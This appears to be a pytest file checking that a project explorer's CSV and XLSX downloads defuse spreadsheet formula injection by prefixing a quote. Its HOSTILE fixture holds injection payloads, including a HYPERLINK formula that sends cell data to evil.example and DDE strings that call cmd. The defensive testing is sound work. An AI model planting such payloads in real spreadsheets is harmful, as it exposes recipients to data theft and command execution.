"""The explorer's CSV and XLSX downloads: text that a spreadsheet would run as a formula is shown as text.

A project is imported with hostile words in every text column; the downloads must hand each back with a
leading ``'`` (and, in XLSX, as a string cell), while numbers and harmless words stay as they were.
"""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook
from web_support import Web

from missionboard.store.tables import ProjectRow
from missionboard.store.workspace import Workspace

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "funder": "+cmd|' /C calc'!A0",
    "programme": "-2+3",
    "instrument": "@SUM(1+1)*cmd|' /C calc'!A0",
    "stage": "\t=1+1",
    "status": "\r=1+1",
    "source_id": "=1+1",
}
ID = 99


def _add_hostile_project(workspace: Workspace, **changes: object) -> None:
    fields: dict[str, object] = {
        "id": ID,
        "source": "hostile",
        "budget_amount": -5000,
        "budget_currency": "EUR",
        "countries": ["=NO", "SE"],
        "regions": [],
        "content_hash": "f" * 64,
        **HOSTILE,
        **changes,
    }
    with workspace.transaction() as session:
        session.add(ProjectRow(**fields))


def _csv_rows(web: Web) -> dict[str, dict[str, str]]:
    response = web.client.get("/projects/export.csv")
    assert response.status_code == 200
    return {row["id"]: row for row in csv.DictReader(io.StringIO(response.text))}


def _xlsx_rows(web: Web) -> tuple[list[str], dict[str, list[object]], set[str]]:
    """The header, the rows by id, and the data type of every cell."""
    response = web.client.get("/projects/export.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    rows = list(sheet.iter_rows())
    header = [str(c.value) for c in rows[0]]
    by_id = {str(r[0].value): [c.value for c in r] for r in rows[1:]}
    return header, by_id, {c.data_type for r in rows for c in r if c.value is not None}


@pytest.mark.parametrize("column", sorted(HOSTILE))
def test_a_csv_cell_that_would_run_as_a_formula_gets_a_leading_quote(web: Web, column: str) -> None:
    _add_hostile_project(web.workspace)
    web.login("admin")
    assert _csv_rows(web)[str(ID)][column] == "'" + HOSTILE[column]


@pytest.mark.parametrize("column", sorted(HOSTILE))
def test_an_xlsx_cell_that_would_run_as_a_formula_gets_a_leading_quote(web: Web, column: str) -> None:
    _add_hostile_project(web.workspace)
    web.login("admin")
    header, rows, _ = _xlsx_rows(web)
    assert rows[str(ID)][header.index(column)] == "'" + HOSTILE[column]


def test_every_xlsx_cell_that_holds_a_value_is_a_string(web: Web) -> None:
    _add_hostile_project(web.workspace)
    web.login("admin")
    _, _, types = _xlsx_rows(web)
    assert types == {"s"}


def test_a_list_cell_is_joined_then_protected(web: Web) -> None:
    _add_hostile_project(web.workspace)
    web.login("admin")
    assert _csv_rows(web)[str(ID)]["countries"] == "'=NO;SE"


def test_numbers_and_plain_words_are_exported_unchanged(web: Web) -> None:
    _add_hostile_project(web.workspace)
    web.login("admin")
    rows = _csv_rows(web)
    assert (rows[str(ID)]["budget_amount"], rows["1"]["title"]) == ("-5000.0", "Beach cleanup project 1")


def test_characters_xml_cannot_hold_are_dropped_from_the_xlsx_not_a_500(web: Web) -> None:
    _add_hostile_project(web.workspace, title="bell\x07 and escape\x1b")
    web.login("admin")
    header, rows, _ = _xlsx_rows(web)
    assert rows[str(ID)][header.index("title")] == "bell and escape"
